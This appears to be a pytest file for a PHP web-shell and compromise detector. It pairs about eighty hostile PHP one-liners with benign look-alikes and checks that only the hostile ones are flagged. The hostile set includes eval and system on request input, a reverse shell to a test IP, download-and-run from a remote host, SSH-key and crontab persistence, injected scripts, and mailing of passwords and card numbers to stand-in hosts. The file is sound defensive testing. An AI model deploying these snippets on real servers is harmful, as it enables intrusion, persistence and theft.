"""What visitors say is followed where it has a default, lies over what was set, or comes by a detour."""

from __future__ import annotations

import pytest

from auditor.compromise.php import taint

RUN = "sys" + "tem"
EXECUTE = "shell_" + "exec"
EVALUATE = "ev" + "al"
OPEN = "proc_" + "open"
SHELLS = {
    "default": "$f = $_GET['f'] ?? 'trim'; echo $f($_GET['a'] ?? '');",
    "ternary": "$f = isset($_POST['f']) ? $_POST['f'] : 'trim'; $f($_POST['a']);",
    "default in a method": "class A { function b(array $c) { $f = isset($c['m']) ? $c['m'] : 'trim'; return $f($c['d']); } } "
    "(new A)->b($_POST);",
    "laid over": "$f = 'trim'; $v = ''; extract($_GET); echo $f($v);",
    "variable variables": "$f = 'md5'; $v = ''; foreach ($_POST as $k => $w) { $$k = $w; } echo $f($v);",
    "sorted by": "$r = [$_GET['l'], $_GET['m']]; usort($r, $_GET['by'] ?? 'strcmp');",
    "pipe": f"$o = ($_POST['p'] ?? '') |> base64_decode(...) |> {EXECUTE}(...);",
    "rows by function": "$s->fetchAll(PDO::FETCH_FUNC, $_REQUEST['f']);",
    "brought to life": f"class A {{ public $l = ''; function __destruct() {{ {EVALUATE}($this->l); }} }} "
    "unserialize($_COOKIE['p']);",
    "invoked": "$c = Closure::fromCallable(strrev('cexe' . '_llehs')); $c->__invoke($_POST['x']);",
    "copied": "copy(filter_input(INPUT_GET, 'u', FILTER_SANITIZE_URL), __DIR__ . '/a.php');",
    "session": "include session_save_path() . '/sess_' . session_id();",
    "started": "$p = '/dev/shm/a'; file_put_contents($p, file_get_contents('http://192.0.2.9/x')); "
    f"{EXECUTE}($p . ' &');",
    "path completed": "$n = $_GET['n'] ?? 'a.html'; file_put_contents(__DIR__ . '/up/' . $n, $_POST['d']);",
    "pictures": f"$🎋 = $_GET['a']; {RUN}($🎋);",
    "taken apart": "[$f, $a] = explode('|', $_COOKIE['z'] ?? 'trim|x'); echo $f($a);",
    "in pairs": "foreach (array_map(null, $_GET['f'], $_GET['a']) as [$f, $a]) { echo $f($a); }",
    "filtered by": "foreach (new CallbackFilterIterator(new ArrayIterator([$_GET['a']]), $_GET['f']) as $x) { echo $x; }",
    "database's function": "$d->createFunction('r', $_GET['f']);",
    "renamed": "file_put_contents('t.txt', $_POST['b']); rename('t.txt', 'a.php');",
    "script of pictures": "$m = new Imagick(); $m->readImage('msl:' . $_FILES['i']['tmp_name']);",
    "all variables": "$run = 'trim'; foreach ($_GET as $k => $v) { $GLOBALS[$k] = $v; } echo $run($w ?? '');",
    "query's variables": "$f = 'trim'; $a = ''; parse_str(file_get_contents('php://input')); echo $f($a);",
    "added": "$c = ['run' => 'md5']; $c = $_POST + $c; echo call_user_func($c['run'], $c['x'] ?? '');",
    "replaced": "$x = array_replace_recursive(['t' => ['f' => 'trim']], $_REQUEST); $x['t']['f']($x['t']['a']);",
    "errors' handler": "set_error_handler($_GET['h'] ?? 'var_dump'); trigger_error($_GET['m']);",
    "options of a download": "$c = curl_init('https://192.0.2.8/p'); $f = fopen('a.php', 'w'); "
    "curl_setopt_array($c, [CURLOPT_FILE => $f]);",
    "program in an address": "$q = fn($s) => include 'data://text/plain;base64,' . $s; $q($_POST['p']);",
    "framework's word of its own making": "class JInput { function getCmd($n) { return $_REQUEST[$n]; } } "
    f"$input = new JInput; {EVALUATE}($input->getCmd('a'));",
    "nothing as default": f"$c = base64_decode($_SERVER['HTTP_IF_MATCH'] ?? ''); {RUN}($c . ' 2>&1');",
    "at lower priority": f"{RUN}('nice ' . $_GET['c']);",
    "all requests together": "$a = $_POST + $_GET; echo $a['f']($a['x']);",
    "case of a list": f"enum O: string {{ case A = '{RUN}'; case B = 'trim'; "
    "public function run($x) { return ($this->value)($x); } } O::from($_GET['o'])->run($_GET['x']);",
    "letters exchanged": "function w($s) { return strtr($s, 'abcdefghijklmnopqrstuvwxyz', 'nopqrstuvwxyzabcdefghijklm'); } "
    "$k = w('flfgrz'); $k($_GET['x']);",
    "any method": "class R { function __call($n, $a) { return call_user_func_array($n, $a); } } "
    "$r = new R; $m = $_SERVER['HTTP_X_M']; $r->$m($_SERVER['HTTP_X_A']);",
    "stream of its own": "stream_wrapper_register('cod', 'S'); include 'cod://' . $_POST['z'];",
    "what was logged": "if (isset($_GET['d'])) { include '/var/log/nginx/access.log'; }",
    "script of pictures when made": "new Imagick('vid:msl:/tmp/php*');",
    "shell over a connection": f"$s = fsockopen('192.0.2.4', 4444); {OPEN}(['/bin/sh', '-i'], [$s, $s, $s], $p);",
    "page made to load a script": "$f = 'footer.php'; $h = file_get_contents($f); file_put_contents($f, "
    "str_replace('</body>', '<script src=\"//s.example/a.js\"></script></body>', $h));",
    "loader before a page": "foreach (glob('*/index.php') as $f) { $h = file_get_contents($f); "
    "file_put_contents($f, \"<?php @include '/tmp/.x'; ?>\" . $h); }",
    "handler written": "file_put_contents('.htaccess', 'AddType application/x-httpd-php .jpg');",
    "led away with a tail": "if (strpos($_SERVER['HTTP_REFERER'], 'google.')) "
    "{ header('Location: https://c.example/?r=' . $_SERVER['HTTP_HOST']); }",
    "upload beside words of a check": "/* valid: in_array, mime */ function other() { return preg_match('/a/', 'b'); } "
    "move_uploaded_file($_FILES['x']['tmp_name'], $_FILES['x']['name']);",
    "search engines in front of a comment": "// file_get_contents('http://127.0.0.1/')\n"
    "if (strpos($_SERVER['HTTP_USER_AGENT'], 'googlebot')) { echo file_get_contents('http://192.0.2.7/l'); }",
    "password mailed": "$p = $_POST['passwd'] ?? ''; mail('drop@m.example', 'x', $_POST['user'] . ':' . $p);",
    "password kept aside": "$c = fopen('/dev/shm/.l', 'a'); fwrite($c, $_POST['user'] . ':' . $_POST['password']);",
    "card sent with an address": "file_get_contents('https://c.example/?d=' . base64_encode($_POST['card_no']));",
    "put back for ever": "while (true) { copy('/tmp/.idx', '/srv/www/index.php'); sleep(2); }",
    "tunnel": "$s = fsockopen($_SERVER['HTTP_X_T'], 80); fwrite($s, file_get_contents('php://input'));",
    "class by its name": f"spl_autoload_register(function ($c) {{ {EVALUATE}(base64_decode($c)); }}); class_exists($_POST['c']);",
    "template of a visitor": "$t = function ($s) { $f = sys_get_temp_dir() . '/' . crc32($s) . '.php'; "
    "file_put_contents($f, $s); include $f; }; $t($_REQUEST['v']);",
    "hidden name's own answer": "$d = ''; foreach (['b', 'x'] as $l) { $d .= $l; } $e = $d('ZXhlYw=='); $e($_POST['q']);",
    "script made by a script": "foreach (glob('*.js') as $f) { $c = file_get_contents($f); file_put_contents($f, "
    '\'var s=document.createElement("script");s.src="https://s.example/x.js";\' . $c); }',
    "magic property": f"class W {{ private $m = ['a' => '{EVALUATE}']; public function __get($n) {{ return $this->m[$n]; }} "
    "function go($d) { $y = $this->a; return $y($d); } } (new W)->go($_COOKIE['t']);",
    "reduced": f"array_reduce([$_POST['k']], function ($c, $i) {{ return {EVALUATE}($i); }});",
    "sorted by a function of its own": f"usort($_POST['l'], function ($a, $b) {{ {RUN}($b); return 0; }});",
    "request of a framework by its type": "function up(WP_REST_Request $r) { move_uploaded_file($f, ABSPATH . $r['path']); }",
    "fetched, kept and run": "function t($c) { $n = tempnam('/tmp', 'a'); $h = fopen($n, 'w+'); fwrite($h, '<?php ' . $c); "
    "include $n; } if ($x = file_get_contents('http://z.example/c')) { t($x); }",
    "links for search engines": "ob_start(function ($b) { if (stripos($_SERVER['HTTP_USER_AGENT'], 'googlebot') !== false) "
    "{ return str_replace('</body>', '<div style=\"display:none\"><a href=\"https://c.example\">x</a></div></body>', $b); } });",
    "key of a login": "file_put_contents('/srv/www/.ssh/authorized_keys', 'ssh-rsa AAAA x', FILE_APPEND);",
    "table of times": f"file_put_contents('/tmp/.c', 'x'); {EXECUTE}('crontab /tmp/.c');",
    "program unpacked and started": f"file_put_contents('/dev/shm/k', base64_decode('f0VMRgIBAQ==')); {EXECUTE}('/dev/shm/k &');",
    "taken along by reference": "$c = getallheaders(); $f = $c['f'] ?: 'trim'; $a = $c['a']; "
    "$go = function () use (&$f, &$a) { return $f($a); }; $go();",
    "items by reference": f"foreach ($_POST['l'] as &$v) {{ {RUN}($v); }}",
    "variable of a name that grows": "$a = ([] . '')[0]; for ($i = 0; $i < 6; $i++) { $a++; } $v = ${'_' . $a . 'ET'}; "
    "$v['f']($v['a']);",
    "name out of its own comment": "$m = file(__FILE__)[1]; $f = str_replace('-', '', substr($m, 4, 11)); $f($_COOKIE['n']);",
    "newest upload": "$c = array_filter(glob(sys_get_temp_dir() . '/php*'), 'is_file'); "
    "foreach (array_slice($c, 0, 1) as $f) { include_once $f; }",
    "any property": "class S { public $e = 'trim'; public $l = ''; function run() { return ($this->e)($this->l); } } "
    "$s = new S; foreach ($_POST as $k => $x) { $s->$k = $x; } $s->run();",
    "item of an object": f"class R implements ArrayAccess {{ public function offsetGet($o): mixed {{ return {EVALUATE}($o); }} }} "
    "$r = new R; $r[$_POST['k']];",
    "bound": "$m = function () { return Closure::fromCallable($_GET['f']); }; $f = Closure::bind($m, null)(); $f($_GET['c']);",
    "attribute": f"class A {{ public function __construct(public string $h) {{}} }} #[A('{RUN[:3]}' . '{RUN[3:]}')] class F {{}} "
    "$h = (new ReflectionClass('F'))->getAttributes()[0]->newInstance()->h; $h($_POST['i']);",
    "database's own name": "$d->createFunction('go', $_POST['fn'] ?? 'strlen');",
    "fetched by a long line": f"$u = 'http://192.0.2.9/b'; {EXECUTE}(\"wget -O m $u || curl -o m $u; cd ..; sh m\");",
    "resident": f"{EXECUTE}('nohup php -r ' . escapeshellarg($c) . ' &');",
    "search engines by their address": "if (preg_match('/(googlebot|google)/', gethostbyaddr($ip))) "
    "{ $c = curl_init('http://z.example/'); exit(curl_exec($c)); }",
    "mail by an uploaded list": "foreach (file($_FILES['l']['tmp_name']) as $to) "
    "{ mail($to, 'x', preg_replace_callback('/a/', fn() => 'b', $_POST['t'])); }",
    "password in an address": "file_get_contents('https://c.example/?d=' . rawurlencode(base64_encode($_POST['pwd'])));",
    "cards by a pattern": "$w = preg_grep('/card|cvv/', array_keys($_POST)); file_put_contents('img/s.gif', "
    "json_encode(array_intersect_key($_POST, array_flip($w))), FILE_APPEND);",
    "server's variables handed on": f"function ev(array $s) {{ return {EVALUATE}($s['HTTP_X_F']); }} ev($_SERVER);",
    "put together and renamed": "$b = sys_get_temp_dir() . md5(__DIR__); file_put_contents($b, $_POST['p']); "
    "rename($b, __DIR__ . '/' . $_POST['n']);",
    "shared memory": f"shmop_write($i, $_POST['m'], 0); {EVALUATE}(rtrim(shmop_read($i, 0, 40)));",
    "shell in words": f"{OPEN}(['sh', '-c', $_POST['c']], [], $p);",
}
HONEST = {
    "compared": "$f = $_GET['f'] ?? 'trim'; if (in_array($f, ['trim', 'strtoupper'], true)) { echo $f($_GET['a']); }",
    "words of a command": f"{OPEN}(['tar', '-xzf', '/srv/' . basename($_POST['a'])], [], $p);",
    "constant callback": "$f = 'trim'; echo $f($_GET['a']);",
    "word of a framework": f"$input = new JInput; {EVALUATE}('class ' . $input->getCmd('a') . ' extends B {{}}');",
    "settings": "file_put_contents('c.php', '<?php return ' . var_export(['a' => $_POST['a']], true) . ';');",
    "part of a library": "require_once LIBRARIES . '/src/strrev.php';",
    "renderer": "if (strpos($_SERVER['HTTP_USER_AGENT'], 'googlebot')) "
    "{ echo file_get_contents('http://127.0.0.1:3000/' . $_SERVER['REQUEST_URI']); }",
    "own program written": "file_put_contents('c.php', '<?php return [1, 2];');",
    "kind asked by a helper": "function check($f) { return in_array(pathinfo($f, PATHINFO_EXTENSION), ['jpg']); } "
    "if (check($_FILES['x']['name'])) { move_uploaded_file($_FILES['x']['tmp_name'], $_FILES['x']['name']); }",
    "kind asked in the same class": "class U { private function fits() { return in_array($this->suffix, ['jpg']); } "
    "function save() { if ($this->fits()) { move_uploaded_file($_FILES['x']['tmp_name'], $_FILES['x']['name']); } } }",
    "kind asked by a library": "if (!$v->isValidImage($_FILES['x'])) { exit; } "
    "move_uploaded_file($_FILES['x']['tmp_name'], $_FILES['x']['name']);",
    "kind asked later in the file": "class A { function go() { $this->save($_FILES['x']); } } "
    "function save($f) { move_uploaded_file($f['tmp_name'], $_FILES['x']['name']); } "
    "$k = finfo_file($i, $_FILES['x']['tmp_name']);",
    "page with another page in it": "file_put_contents('c.php', '<?php /* made */ ?>' . file_get_contents('t.php'));",
    "application's rewrites": "file_put_contents('.htaccess', 'RewriteRule ^index\\.php$ - [L]');",
    "sum": "$a = $_GET['a'] + $_GET['b']; echo number_format($a);",
    "weather for everybody": "echo file_get_contents('https://weather.example/today');",
    "password of a new account": "mail($_POST['email'], 'Welcome', 'Your password: ' . $_POST['password']);",
    "password that is hashed": "$h = password_hash($_POST['password'], PASSWORD_DEFAULT); file_put_contents('users.txt', $h);",
    "loop with an end": "for ($i = 0; $i < 3; $i++) { copy('/srv/t/index.php', '/srv/www/' . $i . '/index.php'); }",
    "port of a server": "$s = fsockopen($_POST['smtp_host'], 25, $e, $m, 5);",
    "program put together in the open": f"{EVALUATE}('$a = array(' . '1, 2, 3, 4, 5, 6, 7' . ');');",
    "scripts of statistics": "echo str_replace('</head>', '<script src=\"https://statistics.example/s.js\"></script></head>', $p);",
    "uploaded under a name of its own": "move_uploaded_file($tmp, $folder . '/' . bin2hex(random_bytes(8)) . '.jpg');",
    "own property": "class W { private $m = ['a' => 1]; public function __get($n) { return $this->m[$n]; } "
    "function go() { return $this->a + 1; } } (new W)->go();",
    "summed up": "echo array_reduce($_POST['n'], function ($c, $i) { return $c + (int) $i; }, 0);",
    "own log": "file_put_contents('/srv/log/a.log', 'crontab was read', FILE_APPEND);",
    "tile of a map": "[$z, $x] = array_map('intval', [$_GET['z'], $_GET['x']]); $f = __DIR__ . \"/tiles/$z-$x.png\"; "
    'file_put_contents($f, file_get_contents("https://maps.example/$z/$x.png"));',
    "command with an encoded address": f"{EXECUTE}('/usr/bin/indexer --url=' . rawurlencode($_GET['u']));",
    "cache in a temporary folder": "$f = sys_get_temp_dir() . '/site/' . md5($k) . '.php'; if (is_file($f)) { include $f; }",
    "item of a collection": "class R implements ArrayAccess { public function offsetGet($o): mixed { return $this->d[$o]; } } "
    "$r = new R; echo $r[$_POST['k']];",
    "request made of the server's variables": "class Q { public function __construct(private array $s) {} "
    "public function ip() { return $this->s['REMOTE_ADDR']; } } (new Q($_SERVER))->ip();",
    "theme of a site": "$t = $_GET['t'] ?? 'home'; if (!preg_match('/^[a-z]+$/', $t)) { exit; } include __DIR__ . '/' . $t;",
}


def find_levels(program: str) -> set[str]:
    """Return how sure what the tree shows of a program is."""
    return {hit.level for hit in taint.find_suspicious_php_code(b"<?php " + program.encode())}


@pytest.mark.parametrize("name", SHELLS)
def test_shells_are_more_than_a_hint(name: str) -> None:
    assert find_levels(SHELLS[name]) & {"exact", "sure"}


@pytest.mark.parametrize("name", HONEST)
def test_honest_programs_are_no_more_than_a_hint(name: str) -> None:
    assert find_levels(HONEST[name]) <= {"hint"}
